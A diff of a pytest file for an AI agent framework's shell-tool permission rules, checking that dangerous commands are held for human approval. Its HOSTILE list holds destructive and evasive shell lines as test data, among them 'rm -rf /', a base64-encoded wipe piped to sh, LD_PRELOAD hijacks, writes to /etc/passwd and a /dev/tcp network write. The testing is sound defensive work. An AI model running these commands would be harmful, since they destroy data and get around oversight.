@@ -7,19 +7,28 @@ import pytest
 from msgspec.structs import replace
 
 from holdfast.agent import Agent
+from holdfast.config import Permissions
 from holdfast.core.records import CallState, Message, State, ToolResult
-from holdfast.errors import ConfigError, ToolFailed
 from holdfast.hooks import Arguments, Hook
 from holdfast.models.scripted import Call, ScriptedModel
 from holdfast.tools.context import ToolContext
-from holdfast.tools.shell.acts import COMMAND_CHARS_MAX
-from holdfast.tools.shell.policy import ShellPolicy
+from holdfast.tools.permissions.acts import Whereabouts
+from holdfast.tools.permissions.rulebook import rulebook_of
+from holdfast.tools.shell.acts import COMMAND_CHARS_MAX, acts_of
 from holdfast.tools.shell.tool import shell_tool
 from tests.support.turns import rested, running
 
-POLICY = ShellPolicy(
-    allow=[("ls",), ("git", "status"), ("git", "log"), ("echo",), ("cat",), ("grep",), ("head",), ("cd",)]
+RULES = tuple(
+    f"allow run({words} *)" for words in ("ls", "git status", "git log", "echo", "cat", "grep", "head", "cd")
 )
+
+
+def objection(command: str, root: Path | None, *rules: str) -> str | None:
+    """Why it is not run unasked."""
+    decision = rulebook_of(Permissions(mode="ask", rules=rules or RULES), None, None).judge(
+        acts_of(command), Whereabouts(root=None if root is None else str(root))
+    )
+    return None if decision.ruling == "allow" else decision.why
 
 
 @pytest.fixture
@@ -54,35 +63,36 @@ def root(tmp_path: Path) -> Path:
     ],
 )
 def test_a_plain_command_that_begins_with_an_allowed_prefix_runs_unasked(command: str, root: Path) -> None:
-    assert POLICY.objection(command, root) is None
+    assert objection(command, root) is None
 
 
+NO_RULE = "no rule allows it"
 HOSTILE = [
     # other programs, and other ways to name them
-    ("rm -rf /", "`rm -rf` is not allowed"),
-    ("git push", "`git push` is not allowed"),
-    ("git -c core.pager=id status", "`git -c` is not allowed"),
-    ("git", "`git` is not allowed"),
-    ("./ls", "`./ls` is not allowed"),
-    ("/bin/ls", "`/bin/ls` is not allowed"),
-    ("l?", "`l?` is not allowed"),
-    ("git stat*", "`git stat*` is not allowed"),
-    ("ls; rm x", "`rm x` is not allowed"),
-    ("ls && rm x", "`rm x` is not allowed"),
-    ("ls || rm x", "`rm x` is not allowed"),
-    ("ls | sh", "`sh` is not allowed"),
-    ("ls\nrm x", "`rm x` is not allowed"),
+    ("rm -rf /", NO_RULE),
+    ("git push", NO_RULE),
+    ("git -c core.pager=id status", NO_RULE),
+    ("git", NO_RULE),
+    ("./ls", NO_RULE),
+    ("/bin/ls", NO_RULE),
+    ("l?", NO_RULE),
+    ("git stat*", NO_RULE),
+    ("ls; rm x", NO_RULE),
+    ("ls && rm x", NO_RULE),
+    ("ls || rm x", NO_RULE),
+    ("ls | sh", NO_RULE),
+    ("ls\nrm x", NO_RULE),
     ("ls\r\nrm x", "control characters"),
     ("ls\x00rm x", "control characters"),
-    ("sh -c ls", "`sh -c` is not allowed"),
-    ("env -i ls", "`env -i` is not allowed"),
-    ("env ls", "`env ls` is not allowed"),
-    ("exec ls", "`exec ls` is not allowed"),
-    ("command ls", "`command ls` is not allowed"),
-    ("eval ls", "`eval ls` is not allowed"),
-    (". ./x", "`. ./x` is not allowed"),
-    ("echo cm0gLXJmIC8= | base64 -d | sh", "`base64 -d` is not allowed"),
-    ("xargs rm < notes.txt", "`xargs rm` is not allowed"),
+    ("sh -c ls", NO_RULE),
+    ("env -i ls", NO_RULE),
+    ("env ls", NO_RULE),
+    ("exec ls", NO_RULE),
+    ("command ls", NO_RULE),
+    ("eval ls", NO_RULE),
+    (". ./x", NO_RULE),
+    ("echo cm0gLXJmIC8= | base64 -d | sh", NO_RULE),
+    ("xargs rm < notes.txt", NO_RULE),
     # expansion
     ("$SHELL -c id", "simple expansion"),
     ("${X}ls", "expansion"),
@@ -100,15 +110,15 @@ HOSTILE = [
     ("ls ~root", "is not plain"),
     ("l\\s", "is not plain"),
     ("ls \\\n-l", "between its words"),
-    ("r''m x", "`rm x` is not allowed"),
-    ("'rm' x", "`rm x` is not allowed"),
+    ("r''m x", NO_RULE),
+    ("'rm' x", NO_RULE),
     ("ls\u00a0-l", "is not plain"),
     # settings that change what an allowed program does
     ("LD_PRELOAD=./x.so ls", "variable assignment"),
     ("PATH=. ls", "variable assignment"),
     ("X=1", "variable assignment"),
     ("export PATH=.; ls", "declaration command"),
-    ("alias ls=rm; ls", "`alias ls=rm` is not allowed"),
+    ("alias ls=rm; ls", NO_RULE),
     ("ls() { rm x; }; ls", "function definition"),
     # other constructs
     ("ls &", "`&`"),
@@ -127,21 +137,21 @@ HOSTILE = [
     ("cat <<'EOF'\nx\nEOF", "heredoc redirect"),
     ("cat <<< x", "herestring redirect"),
     # redirections
-    ("echo x > notes.txt", "it writes to `notes.txt`"),
-    ("echo x >> new.txt", "it writes to `new.txt`"),
-    ("echo x > /etc/passwd", "it writes to `/etc/passwd`"),
-    ("echo x > link.txt", "it writes to `link.txt`"),
+    ("echo x > notes.txt", NO_RULE),
+    ("echo x >> new.txt", NO_RULE),
+    ("echo x > /etc/passwd", "under the root"),
+    ("echo x > link.txt", "under the root"),
     ("cat < /etc/passwd", "no plain file or folder under the root"),
     ("cat < link.txt", "no plain file or folder under the root"),
-    ("echo x > /dev/tcp/10.0.0.1/80", "it reaches `10.0.0.1:80`"),
-    ("cd src && echo x > notes.txt", "it writes to `notes.txt`"),
-    ("cd .. && ls", "it reads `..`"),
-    ("cd src && cat x", "it changes the folder"),
+    ("echo x > /dev/tcp/10.0.0.1/80", NO_RULE),
+    ("cd src && echo x > notes.txt", "the folder is changed"),
+    ("cd .. && ls", "`..` is no plain file or folder under the root"),
+    ("cd src && cat x", "the folder is changed before"),
     ("echo x > $X", "simple expansion"),
-    ("echo x > *.txt", "it writes to `*.txt`"),
-    ("echo x &> notes.txt", "it writes to `notes.txt`"),
-    ("echo x >& notes.txt", "it writes to `notes.txt`"),
-    ("echo x >| notes.txt", "it writes to `notes.txt`"),
+    ("echo x > *.txt", "it cannot be told what"),
+    ("echo x &> notes.txt", NO_RULE),
+    ("echo x >& notes.txt", NO_RULE),
+    ("echo x >| notes.txt", NO_RULE),
     ("cat 3<> notes.txt", ""),
     ("git > x push", "can be read in two ways"),
     ("> notes.txt", "there is no command in it"),
@@ -158,74 +168,48 @@ HOSTILE = [
 ]
 
 
-@pytest.mark.parametrize(("command", "objection"), HOSTILE, ids=lambda value: repr(value)[:40])
-def test_a_hostile_line_is_not_run_unasked(command: str, objection: str | None, root: Path) -> None:
-    said = POLICY.objection(command, root)
-    if objection is None:
+@pytest.mark.parametrize(("command", "wanted"), HOSTILE, ids=lambda value: repr(value)[:40])
+def test_a_hostile_line_is_not_run_unasked(command: str, wanted: str | None, root: Path) -> None:
+    said = objection(command, root)
+    if wanted is None:
         assert said is None
     else:
         assert said is not None
-        assert objection in said
+        assert wanted in said
 
 
 @pytest.mark.parametrize("pattern", [".*", ".?", ".*/outside.txt", "src/.*/.?/outside.txt", "'.'*"])
 def test_a_pattern_that_may_stand_for_the_folder_above_asks(pattern: str, root: Path) -> None:
     for program in ("ls", "cat", "grep -r x"):
-        assert "it cannot be told what" in (POLICY.objection(f"{program} {pattern}", root) or "")
-    assert POLICY.objection("cat .git*", root) is None
+        assert "it cannot be told what" in (objection(f"{program} {pattern}", root) or "")
+    assert objection("cat .git*", root) is None
 
 
 def test_a_pattern_is_taken_as_the_shell_takes_it(root: Path) -> None:
     (root / "ax").write_text("inside")
     (root / "[a]x").symlink_to(root.parent / "outside.txt")
-    assert "it cannot be told what" in (POLICY.objection("cat '[a]'*", root) or "")
+    assert "it cannot be told what" in (objection("cat '[a]'*", root) or "")
     (root / "é").symlink_to(root.parent / "outside.txt")
-    assert "under the root" in (POLICY.objection("cat ./??", root) or "")  # two bytes: dash takes it for two
-    assert "under the root" in (POLICY.objection("cat ./?", root) or "")
+    assert "under the root" in (objection("cat ./??", root) or "")  # two bytes: dash takes it for two
+    assert "under the root" in (objection("cat ./?", root) or "")
 
 
 def test_comparing_folders_reads_everything_in_them(root: Path) -> None:
-    policy = ShellPolicy(allow=[("diff",), ("git", "diff")])
+    rules = ("allow run(diff *)", "allow run(git diff *)")
     for folder in ("src", ".ssh"):
         (root / folder).mkdir()
-    assert policy.objection("diff notes.txt notes.txt", root) is None
-    assert "through symlinks" in (policy.objection("diff -N . src", root) or "")
-    assert policy.objection("git diff HEAD -- src", root) is None
-    assert "keys or holdfast's own files" in (policy.objection("git diff --text . src", root) or "")
+    assert objection("diff notes.txt notes.txt", root, *rules) is None
+    assert "through symlinks" in (objection("diff -N . src", root, *rules) or "")
+    assert objection("git diff HEAD -- src", root, *rules) is None
+    assert "keys or holdfast's own files" in (objection("git diff --text . src", root, *rules) or "")
     plain = root.parent / "plain"
     plain.mkdir()
-    assert "not the top of a repository" in (policy.objection("git diff a b", plain) or "")
+    assert "not the top of a repository" in (objection("git diff a b", plain, *rules) or "")
 
 
 def test_without_a_root_no_file_is_redirected_to() -> None:
-    assert POLICY.objection("ls 2>/dev/null >&2") is None
-    assert POLICY.objection("ls > notes.txt") is not None
-
-
-@pytest.mark.parametrize(
-    "prefix",
-    [("sh",), ("/bin/bash",), ("sh", "-c"), ("env",), ("env", "X=1"), ("timeout", "5"), ("xargs",), ("sudo", "-n")],
-)
-def test_a_prefix_that_allows_every_program_is_a_mistake(prefix: tuple[str, ...]) -> None:
-    with pytest.raises(ConfigError, match="every program"):
-        ShellPolicy(allow=[prefix])
-
-
-@pytest.mark.parametrize("prefix", ["ls", (), ("",)])
-def test_a_prefix_is_a_tuple_of_words(prefix: tuple[str, ...]) -> None:
-    with pytest.raises(ConfigError, match="a tuple of words"):
-        ShellPolicy(allow=[prefix])
-    ShellPolicy(allow=[("sudo", "systemctl", "status"), ("bash", "run.sh")])
-
-
-def test_where_nobody_is_there_to_be_asked_it_is_denied(root: Path) -> None:
-    alone = ToolContext(metadata={"unattended": True})
-    with pytest.raises(ToolFailed, match=r"no person is there to be asked, and `rm x` is not allowed"):
-        POLICY.bind(root)({"command": "rm x"}, alone)
-    assert POLICY.bind(root)({"command": "ls"}, alone) is None
-    patient = ShellPolicy(unattended="ask")
-    for context in (alone, ToolContext()):
-        assert "Run this command?" in (patient.bind(root)({"command": "rm x"}, context) or "")
+    assert objection("ls 2>/dev/null >&2", None) is None
+    assert objection("ls > notes.txt", None) is not None
 
 
 # --- in a chat ---------------------------------------------------------------------------------------
@@ -233,7 +217,7 @@ def test_where_nobody_is_there_to_be_asked_it_is_denied(root: Path) -> None:
 
 def agent(root: Path, command: str, *hooks: Hook) -> Agent:
     model = ScriptedModel([Call(name="shell", arguments={"command": command})], "Done.")
-    return Agent("a", model, tools=[shell_tool(root=root, policy=POLICY)], hooks=hooks)
+    return Agent("a", model, tools=[shell_tool(root=root)], hooks=hooks, permissions=Permissions(rules=RULES))
 
 
 def result_of(messages: list[Message]) -> ToolResult:
@@ -254,7 +238,7 @@ async def test_another_command_waits_for_a_person_and_runs_when_approved(store_u
         assert await rested(chat) is State.WAITING
         (call,) = (await chat.snapshot()).calls
         assert call.state is CallState.ASKING
-        assert "`rm notes.txt` is not allowed" in (call.question or "")
+        assert NO_RULE in (call.question or "")
         assert (root / "notes.txt").exists()
         await chat.approve(call.id)
         assert await rested(chat) is State.IDLE
@@ -269,7 +253,7 @@ async def test_in_an_unattended_chat_the_model_is_told_that_it_was_denied(store_
         assert (root / "notes.txt").exists()
 
 
-async def test_the_policy_judges_what_a_hook_made_of_the_arguments(store_url: str, root: Path) -> None:
+async def test_the_rules_judge_what_a_hook_made_of_the_arguments(store_url: str, root: Path) -> None:
     hook = Hook("before_tool", lambda call, context: Arguments(text='{"command": "rm notes.txt"}'))
     async with running(store_url, agent(root, "ls", hook)) as (app, _):
         chat = await app.create("a", "go")
@@ -281,7 +265,7 @@ async def test_a_tool_that_cannot_say_whether_it_may_run_asks(store_url: str, ro
     def decide(arguments: dict[str, object], context: ToolContext) -> str | None:
         raise RuntimeError("no idea")
 
-    made = replace(shell_tool(root=root, policy=None), needs_approval=decide)
+    made = replace(shell_tool(root=root), needs_approval=decide, acts=lambda _: ())
     model = ScriptedModel([Call(name="shell", arguments={"command": "ls"})], "Done.")
     async with running(store_url, Agent("a", model, tools=[made])) as (app, _):
         chat = await app.create("a", "go")
